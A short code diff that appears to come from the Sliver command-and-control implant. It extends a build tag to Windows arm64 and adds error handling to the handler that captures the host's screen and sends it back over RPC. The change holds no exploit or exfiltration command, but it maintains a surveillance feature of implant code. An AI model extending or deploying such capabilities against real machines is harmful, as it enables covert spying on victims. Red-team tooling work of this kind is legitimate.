@@ -1,4 +1,4 @@
-//go:build (linux && (386 || amd64)) || (darwin && (amd64 || arm64)) || (windows && amd64)
+//go:build (linux && (386 || amd64)) || (darwin && (amd64 || arm64)) || (windows && (amd64 || arm64))
 
 package handlers
 
@@ -42,8 +42,10 @@ func screenshotHandler(data []byte, resp RPCResponse) {
 	// {{if .Config.Debug}}
 	log.Printf("Screenshot Request")
 	// {{end}}
-	scRes := &sliverpb.Screenshot{}
-	scRes.Data = screen.Screenshot()
+	scRes, err := screen.Screenshot(sc)
+	if err != nil {
+		scRes = &sliverpb.Screenshot{Response: sliverpb.ErrorResponse(err)}
+	}
 	data, err = proto.Marshal(scRes)
 
 	resp(data, err)